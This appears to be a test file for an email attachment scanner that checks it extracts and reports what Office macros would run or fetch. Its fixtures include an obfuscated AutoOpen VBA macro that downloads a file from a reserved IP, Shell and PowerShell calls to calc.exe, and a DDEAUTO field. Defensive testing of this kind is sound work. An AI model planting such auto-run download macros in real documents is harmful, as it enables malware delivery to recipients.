import { aMail, cfb, docm, docx, macros, vbaStreams, xlsm } from '@sekisho/specimens'
import { describe, expect, test } from 'vitest'
import { inspected, spoke } from '../../testing/inspected.ts'

const document = (source: string) => docm({ modules: [macros.asDocumentModule(source)] })

describe('what a macro would run and fetch', () => {
  test('is put together and told, in a form nobody can click', async () => {
    const source = `Private Declare PtrSafe Function URLDownloadToFile Lib "urlmon" (ByVal a As Long) As Long
Const part = "192.0"
Sub AutoOpen()
  address = "ht" & Chr(116) & "p://" & part & ".2.1/" & StrReverse("txt.treni")
  URLDownloadToFile 0, address, Environ("TEMP") & "\\x", 0, 0
End Sub`
    const inspection = await inspected(aMail().attaching(document(source)))
    expect(inspection.artifacts[0]?.facts?.['macroAddresses']).toEqual(['http://192.0.2.1/inert.txt'])
    expect(inspection.detections.map(({ message }) => message.ja).join()).toContain('hxxp://192[.]0[.]2[.]1/inert.txt')
  })

  test('over several modules', async () => {
    const modules = [
      macros.asDocumentModule('Sub AutoOpen()\nShell command, 0\nEnd Sub'),
      macros.asStandardModule('Public Const command = "cal" & "c.exe"'),
    ]
    const inspection = await inspected(aMail().attaching(xlsm({ modules })))
    expect(inspection.reason.ja).toContain('（Shell：calc.exe）')
  })

  test('from the caption of a form', async () => {
    const modules = [macros.asDocumentModule('Sub AutoOpen()\nGetObject(f.Tag).Create f.Caption\nEnd Sub')]
    let file = cfb('a.doc').stream('Macros/Form1/o', Buffer.from('\0\x02\x28\0powershell -c calc.exe\0\0', 'latin1'))
    for (const { path, bytes } of vbaStreams({ modules }, 'Macros')) if (bytes) file = file.stream(path, bytes)
    const inspection = await inspected(aMail().attaching(file))
    expect(inspection.artifacts[0]?.facts?.['macroCommands']).toEqual(['powershell -c calc.exe'])
    expect(inspection.reason.ja).toContain('（GetObject：powershell -c calc.exe）')
  })

  test('a harmless macro tells nothing', async () => {
    const inspection = await inspected(aMail().attaching(document(macros.harmless)))
    expect(inspection.artifacts[0]?.facts?.['macroCommands']).toBeUndefined()
    expect(inspection.artifacts[0]?.facts?.['macroAddresses']).toBeUndefined()
  })
})

describe('macro.lure', () => {
  test.each([
    [
      'a template from elsewhere',
      docx({ text: 'コンテンツの有効化を押してください', remoteTemplate: 'https://x.example.com/t.dotm' }),
    ],
    ['DDE', docx({ text: 'This document is protected. Click Enable Editing.', fields: [['DDEAUTO excel "x"']] })],
  ])('speaks for words before %s', async (_, file) => {
    expect(spoke(await inspected(aMail().attaching(file)))).toContain('macro.lure')
  })

  test('does not count words that nobody sees', async () => {
    const file = docm({
      text: '報告',
      whiteText: 'コンテンツの有効化',
      modules: [macros.asDocumentModule(macros.autoRunHarmless)],
    })
    expect(spoke(await inspected(aMail().attaching(file)))).not.toContain('macro.lure')
  })

  test.each([
    docx({ text: '手引き: マクロを有効にするには「コンテンツの有効化」を押します。', links: ['https://www.example.com/'] }),
    docm({ text: '手引き: マクロを有効にします。', modules: [macros.asStandardModule(macros.harmless)] }),
  ])('is silent for a manual: %#', async (file) => {
    expect((await inspected(aMail().attaching(file))).verdict).toBe('clean')
  })
})
